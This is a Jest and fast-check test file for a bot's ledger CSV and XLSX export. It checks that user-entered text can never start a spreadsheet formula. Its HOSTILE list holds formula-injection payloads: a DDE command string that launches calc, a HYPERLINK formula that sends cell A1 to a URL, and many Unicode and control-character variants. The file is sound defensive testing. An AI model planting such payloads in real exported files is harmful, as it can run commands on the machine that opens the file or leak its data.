import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { cellText } from '../../bot/japanese/cell.js';
import { type LedgerColumn, ledgerColumns } from '../../bot/ledger/columns.js';
import { writeCsv } from '../../bot/ledger/csv.js';
import { writeXlsx } from '../../bot/ledger/xlsx.js';
import { runs } from '../helpers/chance.js';
import { csvRows, readWorkbook } from './reading.js';
import { ledgerRequest, stream } from './requests.js';

const HOSTILE = [
  '=HYPERLINK("http://example.com/?x="&A1,"見る")',
  "=cmd|'/c calc'!A0",
  '+1',
  '-1',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1',
  '−1',
  ' =1',
  '　=1',
  '\u00a0=1',
  '\u200b=1',
  '\u202e=1',
  '\ufeff=1',
  '\u0001=1',
  '\u0085=1',
  '\ufffd=1',
  '\u{10ffff}a=1',
  '\ud800=1',
  '=\u0338cmd',
  '＝\u0338',
  '_x003D_1+1',
  '_x000D_=1',
  '_x005F_x003D_1',
  '_x005f_=1',
  "'=1",
  "''@x",
  '"=1',
  'a",=1,"b',
  'a;=1;b\t=1\r\n=1',
  ']]></t></si><si><t>=1',
  '&#61;1',
  'constructor',
  '__proto__',
  'toString',
  '山田さんの件\u202eabc',
  '🧑‍🧑‍🧒=1',
];

const lead = fc.constantFrom(
  '',
  '',
  ' ',
  '　',
  '\t',
  '\r',
  '\n',
  "'",
  '\u200b',
  '\u2066',
  '\u0000',
  '\ufffe',
  '\ufe0f',
);
const sign = fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠', '﹣', '⁺', '₌', '−', '"', ',', '_x003d_', 'a');
const tail = fc.oneof(fc.string({ unit: 'binary', maxLength: 20 }), fc.constantFrom('1+1', '1,"x"', '\r\n=1', '件名'));
const anything = fc.oneof(
  fc.tuple(fc.array(lead, { maxLength: 3 }), sign, tail).map(([before, ...rest]) => [...before, ...rest].join('')),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.constantFrom(...HOSTILE),
);

/** True when a spreadsheet, however it trims, could find a formula: told apart by hand, not with the pattern under test. */
function startsFormula(cell: string): boolean {
  if (['\t', '\r', '\n'].includes(cell[0] ?? '')) return true;
  const first = [...cell].find((char) => !/[\s\p{C}\ufffd]|[\ufe00-\ufe0f]/u.test(char)) ?? '';
  return ['=', '+', '-', '@', '−'].includes(first.normalize('NFKC'));
}

/** What a program gets back that takes off the one apostrophe. */
const restored = (cell: string) =>
  cell.startsWith("'") && startsFormula(cell.replace(/^'+/, '')) ? cell.slice(1) : cell;

/** What is left out: characters that cannot stand in XML. */
const printable = (text: string) =>
  [...text]
    .filter((char) => /[\t\n\r]/.test(char) || !/[\p{Cc}\p{Cs}\p{Noncharacter_Code_Point}\ufffd]/u.test(char))
    .join('');

const columnsOf = (texts: string[]): LedgerColumn[] =>
  texts.map((text, index) => ({ header: `列${index}`, width: 10, value: () => text }));

describe('whatever people typed', () => {
  it('starts no formula in the CSV, and can be read back to the letter', async () => {
    const check = async (texts: string[]) => {
      const [, row] = csvRows(await writeCsv(columnsOf(texts), stream(ledgerRequest())));
      expect(row?.filter(startsFormula)).toEqual([]);
      expect(row?.map(restored)).toEqual(texts.map(printable));
    };
    await check(HOSTILE);
    await fc.assert(fc.asyncProperty(fc.array(anything, { minLength: 2, maxLength: 12 }), check), {
      numRuns: runs(300),
    });
  });

  it('starts no formula in the workbook, and can be read back but for the kind of line breaks', async () => {
    const check = async (texts: string[]) => {
      const { rows, parts } = readWorkbook(await writeXlsx(columnsOf(texts), stream(ledgerRequest())));
      const row = rows[1]?.map(String) ?? [];
      expect(row.filter(startsFormula)).toEqual([]);
      expect(row.map(restored)).toEqual(texts.map((text) => printable(text).replace(/\r\n?/g, '\n')));
      expect(Object.values(parts).filter((xml) => /<f[ />]/.test(xml))).toEqual([]);
    };
    await check(HOSTILE);
    await fc.assert(fc.asyncProperty(fc.array(anything, { minLength: 1, maxLength: 12 }), check), {
      numRuns: runs(100),
    });
  });

  it.each(HOSTILE)('is no formula wherever it stands in a request: %j', async (text) => {
    const request = ledgerRequest({
      bureau: text,
      section: text,
      chiefTitle: text,
      chiefName: text,
      contactSection: text,
      contactName: text,
      purpose: 4,
      purposeOther: text,
      decidedByName: text,
      refusalReason: 'no_ground',
      refusalWords: text,
      answerNumber: text,
      registeredNumber: text,
      otherNumber: text,
      cityNumber: text,
    });
    const csv = csvRows(await writeCsv(ledgerColumns(true), stream(request)));
    const { rows } = readWorkbook(await writeXlsx(ledgerColumns(true), stream(request)));
    expect([...csv.flat(), ...rows.flat().map(String)].filter(startsFormula)).toEqual([]);
    expect(restored(csv[1]?.[21] ?? '')).toBe(printable(text));
  });

  it('fits into a cell: what is longer than a spreadsheet holds ends in …', () => {
    const cell = cellText(`=${'長'.repeat(40_000)}`);
    expect([cell.length, cell.slice(0, 3), cell.at(-1)]).toEqual([32_767, "'=長", '…']);
    expect(cellText('🙂'.repeat(20_000))).toMatch(/^(🙂)+…$/u);
    expect(cellText('字'.repeat(32_767))).toBe('字'.repeat(32_767));
  });

  it('is left as it is when it is harmless', () => {
    for (const text of ['', '試験 花子', '1-2', '第5条の要件=満たす', '（=1）', '“引用”', "花子's"])
      expect(cellText(text)).toBe(text);
  });
});

describe('the files themselves', () => {
  it('are a CSV that Excel opens as UTF-8, with the line ends of RFC 4180 and a header even without a request', async () => {
    const [one, none] = [
      await writeCsv(ledgerColumns(false), stream(ledgerRequest())),
      await writeCsv(ledgerColumns(false), stream()),
    ];
    expect([...one.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(one.toString().match(/\r\n/g)).toHaveLength(2);
    expect(one.toString()).not.toMatch(/[^\r]\n/);
    expect(csvRows(none)).toEqual([ledgerColumns(false).map(({ header }) => header)]);
  });

  it('are a workbook whose header stays in view, whose numbers can be added up, and whose long words wrap', async () => {
    const { rows, parts } = readWorkbook(await writeXlsx(ledgerColumns(false), stream(ledgerRequest())));
    expect(rows).toEqual([
      ledgerColumns(false).map(({ header }) => header),
      ledgerColumns(false).map(({ value }) => value(ledgerRequest())),
    ]);
    expect(parts['xl/worksheets/sheet1.xml']).toMatch(/<pane ySplit="1"[^>]* state="frozen"\/>/);
    expect(parts['xl/worksheets/sheet1.xml']).toContain('<col min="7" max="7" width="32" customWidth="1"/>');
    expect(parts['xl/styles.xml']).toContain('wrapText="1"');
    expect(parts['xl/styles.xml']).toContain('formatCode="@"');
  });

  it('are not made at all when reading fails halfway', async () => {
    async function* broken() {
      yield { request: ledgerRequest() };
      throw new Error('the database went away');
    }
    await expect(writeCsv(ledgerColumns(false), broken())).rejects.toThrow('the database went away');
    await expect(writeXlsx(ledgerColumns(false), broken())).rejects.toThrow('the database went away');
  });
});
